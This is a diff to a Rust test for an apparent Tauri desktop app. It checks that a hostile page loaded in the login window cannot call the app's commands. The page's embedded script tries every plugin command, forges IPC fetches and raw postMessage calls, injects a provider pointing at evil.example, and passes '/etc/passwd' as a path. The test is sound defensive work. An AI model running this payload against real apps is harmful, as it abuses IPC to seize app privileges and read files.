@@ -105,27 +105,82 @@ async fn sign_in_through_the_login_window_and_see_the_account() {
     assert_eq!(v["tokens"], 1);
 }
 
-/// The provider's page is hostile: a canned page that tries every command through
-/// `window.__TAURI_INTERNALS__` and reports what happened. (A real provider cannot be made to
-/// serve this page; the canned one is the attacker.)
+/// Plugin commands the app's plugins and Tauri's core offer to windows that are granted them.
+const PLUGIN_COMMANDS: &[&str] = &[
+    "plugin:clipboard-manager|read_text",
+    "plugin:clipboard-manager|write_text",
+    "plugin:opener|open_url",
+    "plugin:opener|open_path",
+    "plugin:opener|reveal_item_in_dir",
+    "plugin:window-state|save_window_state",
+    "plugin:window-state|restore_state",
+    "plugin:window-state|filename",
+    "plugin:window|close",
+    "plugin:window|set_title",
+    "plugin:window|get_all_windows",
+    "plugin:webview|create_webview_window",
+    "plugin:webview|get_all_webviews",
+    "plugin:event|emit",
+    "plugin:event|listen",
+    "plugin:app|version",
+    "plugin:path|resolve_directory",
+    "plugin:menu|new",
+    "plugin:tray|new",
+];
+
+/// The provider's page is hostile: a canned page that tries every app and plugin command
+/// through `window.__TAURI_INTERNALS__`, fetches the IPC endpoints itself (`ipc://localhost/`
+/// and `http://ipc.localhost/`) with made-up headers, posts raw IPC messages, and reports what
+/// happened. (A real provider cannot be made to serve this page; the canned one is the
+/// attacker.) The command that would show success is `add_provider` of "Injected".
 #[tokio::test(flavor = "current_thread")]
 async fn a_page_in_the_login_window_cannot_call_the_app() {
+    let injected = serde_json::json!({
+        "name": "Injected", "client_id": "x", "token_url": "https://evil.example/token",
+        "client_secret": "y",
+    });
     let page = format!(
         r#"<!doctype html><title>Evil login</title><p>Signing you in…</p><script>
         const commands = {commands};
+        const injected = {injected};
+        const args = {{ name: 'x', id: 1, input: injected, passphrase: 'x', url: 'https://evil.example',
+                        path: '/etc/passwd', text: 'x', label: 'x', event: 'x', handler: 1 }};
         (async () => {{
-          const ipc = window.__TAURI_INTERNALS__;
           const results = {{}};
+          const ipc = window.__TAURI_INTERNALS__;
           if (!ipc) {{ results.ipc = 'absent'; }} else {{
             for (const c of commands) {{
-              try {{ await ipc.invoke(c, {{ name: 'x', id: 1, input: {{}}, passphrase: 'x' }}); results[c] = 'allowed'; }}
+              try {{ await ipc.invoke(c, args); results[c] = 'allowed'; }}
               catch (e) {{ results[c] = 'refused: ' + String(e); }}
             }}
           }}
+          for (const base of ['ipc://localhost/', 'http://ipc.localhost/']) {{
+            for (const c of ['add_provider', 'list_providers', 'plugin:clipboard-manager|read_text']) {{
+              const key = 'fetch ' + base + c;
+              try {{
+                const r = await fetch(base + encodeURIComponent(c), {{
+                  method: 'POST', body: JSON.stringify(args),
+                  headers: {{ 'Content-Type': 'application/json', 'Tauri-Callback': '1',
+                             'Tauri-Error': '2', 'Tauri-Invoke-Key': 'guessed' }} }});
+                const body = await r.text();
+                results[key] = (r.ok ? 'allowed: ' : 'refused: HTTP ' + r.status + ' ') + body.slice(0, 200);
+              }} catch (e) {{ results[key] = 'refused: ' + String(e); }}
+            }}
+          }}
+          const raw = JSON.stringify({{ cmd: 'add_provider', callback: 1, error: 2, payload: args,
+                                        options: {{}}, invokeKey: 'guessed' }});
+          try {{ window.ipc.postMessage(raw); results.postMessage = 'sent'; }}
+          catch (e) {{ results.postMessage = 'refused: ' + String(e); }}
+          try {{ window.webkit.messageHandlers.ipc.postMessage(raw); results.messageHandler = 'sent'; }}
+          catch (e) {{ results.messageHandler = 'refused: ' + String(e); }}
+          await new Promise(r => setTimeout(r, 1500));
           await fetch('/report', {{ method: 'POST', body: JSON.stringify(results) }});
         }})();
         </script>"#,
-        commands = serde_json::json!(commands())
+        commands = serde_json::json!(commands()
+            .into_iter()
+            .chain(PLUGIN_COMMANDS.iter().map(|c| c.to_string()))
+            .collect::<Vec<_>>())
     );
     let evil = CannedServer::start(vec![
         ("/login".into(), Canned::with_type("text/html", page)),
@@ -158,8 +213,12 @@ async fn a_page_in_the_login_window_cannot_call_the_app() {
         assert!(Instant::now() < deadline, "the page never reported");
         tokio::time::sleep(Duration::from_millis(200)).await;
     };
+    eprintln!("what the hostile page got: {report:#}");
     if report.get("ipc").is_none() {
-        for c in commands() {
+        for c in commands()
+            .into_iter()
+            .chain(PLUGIN_COMMANDS.iter().map(|c| c.to_string()))
+        {
             let r = report[&c]
                 .as_str()
                 .unwrap_or_else(|| panic!("no result for {c}: {report}"));
@@ -167,6 +226,12 @@ async fn a_page_in_the_login_window_cannot_call_the_app() {
                 r.starts_with("refused") && r.contains("not allowed"),
                 "{c} from the login window: {r}"
             );
+        }
+    }
+    for (attempt, r) in report.as_object().unwrap() {
+        let r = r.as_str().unwrap_or_default();
+        if attempt.starts_with("fetch ") {
+            assert!(r.starts_with("refused"), "{attempt}: {r}");
         }
     }
     // The main window still works, and nothing was changed by the page.
@@ -179,7 +244,7 @@ async fn a_page_in_the_login_window_cannot_call_the_app() {
     assert_eq!(
         v.as_array().unwrap().len(),
         1,
-        "the page removed or added nothing"
+        "the page removed or added nothing (no raw message, fetch or invoke got through)"
     );
 }
 
